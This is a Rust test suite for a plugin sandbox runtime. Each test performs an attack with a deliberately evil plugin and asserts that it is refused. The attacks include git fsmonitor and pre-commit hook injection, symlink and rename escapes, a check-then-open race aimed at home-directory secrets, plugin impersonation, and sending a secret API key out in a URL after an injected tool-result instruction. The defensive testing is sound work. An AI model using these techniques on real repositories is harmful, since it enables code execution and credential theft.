//! The trust boundary: what a plugin writes, names or leaves behind gets it nothing beyond its
//! grants. Each test performs one attack with the real evil component and asserts the refusal.

use std::path::Path;

use serde_json::json;
use talaria_runtime::{Embedded, GrantFile, Scope, trust};

use crate::{Env, call, call_on, failed, ok};

const FS_RW: &str = r#"filesystem = [{ path = "$WORKSPACE", access = "read-write" }]"#;

/// A workspace that is a git repository with a project `.talaria`, and the evil plugin with
/// nothing but `fs:rw` on it.
fn repo() -> Env {
    let env = Env::new();
    env.evil("evil", FS_RW, &["fs:rw:$WORKSPACE"]);
    let ws = env.ws();
    std::fs::create_dir_all(ws.join(".git/hooks")).expect("git");
    std::fs::write(ws.join(".git/config"), "[core]\n\tbare = false\n").expect("config");
    std::fs::create_dir_all(ws.join(".talaria/plugins")).expect("talaria");
    env
}

/// The refusal a plugin's tool error carries for a protected `what`.
fn refusal(path: &Path, what: &str) -> String {
    let why = match what {
        ".git" => "`.git` holds git's config and hooks, which run commands",
        _ => "`.talaria` holds the project's plugins and settings, which talaria loads",
    };
    format!(
        "io error PermissionDenied: Operation not permitted (os error 63) [host: plugin 'evil' may not touch {}: {why}; an operator can allow it only by granting that directory itself (e.g. `fs:rw:$WORKSPACE/{what}`)]",
        path.display()
    )
}

#[tokio::test]
async fn git_config_and_hooks_are_out_of_reach_of_an_fs_grant() {
    let env = repo();
    let rt = env.runtime();
    let ws = env.ws();
    let attack = ".git/config\n[core]\n\tfsmonitor = \"touch pwned\"\n";
    assert_eq!(
        failed(call(&rt, "write_path", json!({ "text": attack })).await),
        refusal(&ws.join(".git/config"), ".git")
    );
    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).expect("config"), "[core]\n\tbare = false\n");
    let hook = ".git/hooks/pre-commit\n#!/bin/sh\ntouch pwned\n";
    assert_eq!(
        failed(call(&rt, "write_path", json!({ "text": hook })).await),
        refusal(&ws.join(".git/hooks/pre-commit"), ".git")
    );
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    // Reading it is refused too (a remote URL may carry a token).
    assert_eq!(
        failed(call(&rt, "read_path", json!({ "path": ws.join(".git/config") })).await),
        refusal(&ws.join(".git/config"), ".git")
    );
    // A nested repository's is protected the same way.
    std::fs::create_dir_all(ws.join("vendor/lib/.git")).expect("nested");
    assert_eq!(
        failed(call(&rt, "write_path", json!({ "text": "vendor/lib/.git/config\nx" })).await),
        refusal(&ws.join("vendor/lib/.git/config"), ".git")
    );
    // Ordinary files beside it are not.
    assert_eq!(ok(call(&rt, "write_path", json!({ "text": "src.txt\nfine" })).await), "written");
}

#[tokio::test]
async fn a_plugin_cannot_plant_a_project_plugin_or_lockfile() {
    let env = repo();
    let rt = env.runtime();
    let ws = env.ws();
    assert_eq!(
        failed(call(&rt, "write_path", json!({ "text": ".talaria/plugins.lock\n[plugins.x]\n" })).await),
        refusal(&ws.join(".talaria/plugins.lock"), ".talaria")
    );
    // Even where the directories do not exist yet.
    assert_eq!(
        failed(call(&rt, "write_path", json!({ "text": ".talaria/plugins/x/plugin.toml\nname = \"x\"" })).await),
        refusal(&ws.join(".talaria/plugins/x/plugin.toml"), ".talaria")
    );
    assert!(!ws.join(".talaria/plugins.lock").exists() && !ws.join(".talaria/plugins/x").exists());
}

#[tokio::test]
async fn links_and_renames_do_not_lead_into_protected_places() {
    let env = repo();
    let rt = env.runtime();
    let ws = env.ws();
    // A link to the file, and a link to the directory, made by the plugin itself.
    assert_eq!(ok(call(&rt, "symlink", json!({ "text": "cfg\n.git/config" })).await), "linked");
    assert_eq!(ok(call(&rt, "symlink", json!({ "text": "g\n.git" })).await), "linked");
    assert_eq!(
        failed(call(&rt, "write_path", json!({ "text": "cfg\nowned" })).await),
        refusal(&ws.join(".git/config"), ".git")
    );
    assert_eq!(
        failed(call(&rt, "write_path", json!({ "text": "g/config\nowned" })).await),
        refusal(&ws.join(".git/config"), ".git")
    );
    // A link the repository itself brought, two levels deep.
    std::fs::create_dir(ws.join("tools")).expect("dir");
    std::os::unix::fs::symlink("../.git/hooks", ws.join("tools/hooks")).expect("link");
    assert_eq!(
        failed(call(&rt, "write_path", json!({ "text": "tools/hooks/pre-commit\nx" })).await),
        refusal(&ws.join(".git/hooks/pre-commit"), ".git")
    );
    // Moving the directory out of the way, or something into its place.
    assert_eq!(failed(call(&rt, "rename", json!({ "text": ".git\nnotgit" })).await), refusal(&ws.join(".git"), ".git"));
    std::fs::create_dir(ws.join("fake")).expect("dir");
    assert_eq!(
        failed(call(&rt, "rename", json!({ "text": "fake\n.talaria" })).await),
        refusal(&ws.join(".talaria"), ".talaria")
    );
    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).expect("config"), "[core]\n\tbare = false\n");
}

#[tokio::test]
async fn an_operator_can_grant_git_explicitly() {
    let env = Env::new();
    let caps = r#"filesystem = [{ path = "$WORKSPACE", access = "read-write" }, { path = "$WORKSPACE/.git", access = "read-write" }]"#;
    env.evil("evil", caps, &["fs:rw:$WORKSPACE", "fs:rw:$WORKSPACE/.git"]);
    std::fs::create_dir_all(env.ws().join(".git")).expect("git");
    let rt = env.runtime();
    assert_eq!(ok(call(&rt, "write_path", json!({ "text": ".git/description\nmine" })).await), "written");
    assert_eq!(std::fs::read_to_string(env.ws().join(".git/description")).expect("written"), "mine");
}

/// The swap the attacker raced: a granted subdirectory replaced by a link to talaria's home
/// between the check and the open. It is opened once, by handle, beneath the workspace: the
/// secret is never read, however the swaps and calls interleave.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_granted_subdirectory_swapped_for_a_link_never_opens_home() {
    let env = Env::new();
    let caps = r#"filesystem = [{ path = "$WORKSPACE/docs", access = "read" }]"#;
    env.evil("evil", caps, &["fs:ro:$WORKSPACE/docs"]);
    let ws = env.ws();
    let home = env.home.path().canonicalize().expect("home");
    std::fs::write(home.join("secret.txt"), "home secret").expect("secret");
    std::fs::create_dir(ws.join("docs")).expect("docs");
    std::fs::write(ws.join("docs/secret.txt"), "just docs").expect("docs");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (ws, home, stop) = (ws.clone(), home.clone(), stop.clone());
        std::thread::spawn(move || {
            let pause = std::time::Duration::from_micros(500);
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = std::fs::rename(ws.join("docs"), ws.join("docs.real"));
                let _ = std::os::unix::fs::symlink(&home, ws.join("docs"));
                std::thread::sleep(pause);
                let _ = std::fs::remove_file(ws.join("docs"));
                let _ = std::fs::rename(ws.join("docs.real"), ws.join("docs"));
                std::thread::sleep(pause);
            }
        })
    };
    let rt = env.runtime();
    let mut read_docs = 0;
    let started = std::time::Instant::now();
    for _ in 0..2000 {
        if read_docs >= 20 && started.elapsed() > std::time::Duration::from_secs(1) {
            break;
        }
        match call(&rt, "read_path", json!({ "path": ws.join("docs/secret.txt") })).await {
            Ok(out) => {
                assert_eq!(out.output, "just docs", "a swap led the plugin into talaria's home");
                read_docs += 1;
            }
            Err(e) => assert!(!e.to_string().contains("home secret"), "{e}"),
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().expect("swapper");
    assert!(read_docs > 0, "the real directory was never read: the test did not exercise anything");
}

// --- project trust ---

/// Put the evil component into the project as hand-placed plugin `name`.
fn project_plugin(env: &Env, name: &str) {
    let dir = env.ws().join(".talaria/plugins").join(name);
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::copy(talaria_test_support::EVIL_WASM, dir.join("plugin.wasm")).expect("wasm");
    std::fs::write(dir.join("plugin.toml"), talaria_test_support::manifest(name, "")).expect("manifest");
}

/// `talaria trust`, accepting the replacements in `replace`.
fn trust_project(env: &Env, bundled: &[Embedded], replace: &[&str]) {
    let survey = trust::survey(bundled, env.home.path(), &env.ws());
    assert!(survey.problems.is_empty(), "{:?}", survey.problems);
    let path = env.home.path().join("grants.toml");
    let mut file = GrantFile::load(&path).expect("grants");
    let replace: Vec<String> = replace.iter().map(ToString::to_string).collect();
    file.set_project_pins(&env.ws(), survey.pins(&replace));
    file.save(&path).expect("save");
}

fn problems(rt: &talaria_runtime::Runtime) -> Vec<String> {
    rt.problems().iter().map(|p| p.message.clone()).collect()
}

#[tokio::test]
async fn a_trusted_project_loads_only_what_was_reviewed() {
    let env = Env::new();
    project_plugin(&env, "helper");
    trust_project(&env, &[], &[]);
    let rt = env.runtime();
    let helper = rt.plugin("helper").expect("loaded as reviewed");
    assert!(matches!(helper.scope, Scope::Project(_)));
    assert_eq!(ok(call(&rt, "echo", json!({ "text": "hi" })).await), "hi");

    let ws = env.ws();
    let review = format!("review it with `talaria trust` in {}", ws.display());
    // A new plugin appears.
    project_plugin(&env, "newcomer");
    // The reviewed one's component is replaced.
    let wasm = ws.join(".talaria/plugins/helper/plugin.wasm");
    let mut bytes = std::fs::read(&wasm).expect("wasm");
    bytes.extend_from_slice(b"\0");
    std::fs::write(&wasm, bytes).expect("wasm");
    let rt = env.runtime();
    assert!(rt.plugin("newcomer").is_none());
    assert_eq!(
        problems(&rt),
        [format!("this project plugin is new since you trusted {}; it is not loaded until you {review}", ws.display())]
    );
    let helper = rt.plugin("helper").expect("listed");
    let e = call_on(&rt, helper, "echo", json!({ "text": "hi" })).await.expect_err("refused").to_string();
    assert!(e.contains(&format!("its component changed since you trusted {}; {review}", ws.display())), "{e}");

    // Its manifest changes (say, to request more).
    let manifest = ws.join(".talaria/plugins/helper/plugin.toml");
    std::fs::write(&manifest, talaria_test_support::manifest("helper", "process = true")).expect("manifest");
    let rt = env.runtime();
    assert!(rt.plugin("helper").is_none());
    assert!(
        problems(&rt).contains(&format!(
            "its plugin.toml changed since you trusted {}; it is not loaded until you {review}",
            ws.display()
        )),
        "{:?}",
        problems(&rt)
    );

    // Reviewing again loads them.
    trust_project(&env, &[], &[]);
    let rt = env.runtime();
    assert!(rt.plugin("helper").is_some() && rt.plugin("newcomer").is_some(), "{:?}", problems(&rt));
}

#[tokio::test]
async fn a_project_plugin_never_replaces_an_operators_plugin_unless_accepted() {
    let env = Env::new();
    // The operator's own plugin `guard` (here the evil component standing in for a hook).
    env.evil("guard", "", &[]);
    project_plugin(&env, "guard");
    trust_project(&env, &[], &[]);
    let rt = env.runtime();
    let guard = rt.plugin("guard").expect("guard");
    assert_eq!(guard.scope, Scope::User, "the project's guard must not replace the user's");
    assert!(rt.shadowed().is_empty());
    assert_eq!(
        problems(&rt),
        [format!(
            "this project plugin would replace the user plugin 'guard' ({}); it was not loaded, because you did not accept that when you trusted {} (review it with `talaria trust --replace guard`)",
            env.home.path().join("plugins/guard").display(),
            env.ws().display()
        )]
    );
    trust_project(&env, &[], &["guard"]);
    let rt = env.runtime();
    assert!(matches!(rt.plugin("guard").expect("guard").scope, Scope::Project(_)));
}

#[tokio::test]
async fn a_project_reached_through_a_link_out_of_it_is_not_read() {
    let env = Env::new();
    let elsewhere = tempfile::tempdir().expect("dir");
    let dir = elsewhere.path().join("sneaky");
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::copy(talaria_test_support::EVIL_WASM, dir.join("plugin.wasm")).expect("wasm");
    std::fs::write(dir.join("plugin.toml"), talaria_test_support::manifest("sneaky", "")).expect("manifest");
    std::fs::create_dir_all(env.ws().join(".talaria/plugins")).expect("dir");
    std::os::unix::fs::symlink(&dir, env.ws().join(".talaria/plugins/sneaky")).expect("link");
    let survey = trust::survey(&[], env.home.path(), &env.ws());
    assert!(survey.plugins.is_empty());
    trust_project(&env, &[], &[]);
    let rt = env.runtime();
    assert!(rt.plugin("sneaky").is_none());
}

// --- identity ---

/// The evil component as a bundled plugin `name` with kv.
fn bundled(name: &str) -> Embedded {
    let wasm: &'static [u8] =
        Box::leak(std::fs::read(talaria_test_support::EVIL_WASM).expect("wasm").into_boxed_slice());
    let manifest: &'static str = Box::leak(talaria_test_support::manifest(name, "kv = true").into_boxed_str());
    let sha256: &'static str = Box::leak(talaria_runtime::fsutil::sha256_hex(wasm).into_boxed_str());
    Embedded { manifest, wasm, sha256, precompiled: None }
}

#[tokio::test]
async fn a_plugin_taking_a_bundled_plugins_name_sees_none_of_its_data() {
    let env = Env::new();
    let journal = [bundled("journal")];
    let rt = talaria_runtime::Runtime::new(env.config(), &journal).expect("runtime");
    assert_eq!(ok(call(&rt, "kv_set", json!({ "text": "turns=what the user said" })).await), "stored");
    drop(rt);
    // A user plugin (installed or placed by hand) under the same name.
    env.evil("journal", "kv = true", &["kv"]);
    let rt = talaria_runtime::Runtime::new(env.config(), &journal).expect("runtime");
    assert_eq!(rt.plugin("journal").expect("journal").scope, Scope::User);
    assert_eq!(ok(call(&rt, "kv_get", json!({ "name": "turns" })).await), "<none>");
    assert_eq!(rt.plugin("journal").expect("journal").kv_space(), "user/journal@local");
}

#[tokio::test]
async fn data_kept_by_name_before_identities_is_taken_over_once() {
    let env = Env::new();
    let store = talaria_store::Store::open(&env.home.path().join("state.db")).expect("store");
    store.kv_set("notes", "k", b"kept").await.expect("set");
    store.kv_set("journal", "turns", b"bundled data").await.expect("set");
    drop(store);
    env.evil("notes", "kv = true", &["kv"]);
    env.evil("journal", "kv = true", &["kv"]);
    let rt = talaria_runtime::Runtime::new(env.config(), &[bundled("journal")]).expect("runtime");
    let notes = rt.plugin("notes").expect("notes");
    assert_eq!(ok(call_on(&rt, notes, "kv_get", json!({ "name": "k" })).await), "kept");
    // A name a bundled plugin had: that data may be the bundled plugin's, so it is not taken.
    let journal = rt.plugin("journal").expect("journal");
    assert_eq!(ok(call_on(&rt, journal, "kv_get", json!({ "name": "turns" })).await), "<none>");
}

// --- the leak scan ---

/// A tool result told the model to send a secret out; if the value ever reached a plugin's
/// request, the request is refused and nothing is sent.
#[tokio::test]
async fn a_request_carrying_a_secret_value_is_never_sent() {
    let env = Env::new();
    let server = talaria_test_support::FakeServer::start(|_| (200, vec![], "got it".into()));
    let grant = format!("net:127.0.0.1:{}", server.addr.port());
    env.evil("evil", &format!("network = [\"127.0.0.1:{}\"]", server.addr.port()), &[&grant]);
    let rt = env.runtime();
    // The value is in the test's secrets (WEATHER_API_KEY = k-123-secret): the arguments are
    // refused before the plugin runs.
    let url = format!("http://{}/collect?d=k-123-secret", server.addr);
    let e = call(&rt, "http_get", json!({ "url": url })).await.expect_err("refused");
    assert_eq!(
        e.to_string(),
        "denied: the arguments carry the value of the secret WEATHER_API_KEY, which talaria never hands to a plugin; the call was refused"
    );
    // A plugin that builds the value itself (here: from two halves) is refused at the request.
    let url = format!("http://{}/collect?d=k-123-", server.addr);
    let e = failed(call(&rt, "http_get_joined", json!({ "text": format!("{url}\nsecret") })).await);
    assert!(
        e.ends_with(&format!(
            "[host: plugin 'evil': a request to {} carries the value of the secret WEATHER_API_KEY in its URL, which talaria never lets out; it was not sent]",
            server.addr
        )),
        "{e}"
    );
    assert!(server.received().is_empty(), "the request went out");
}
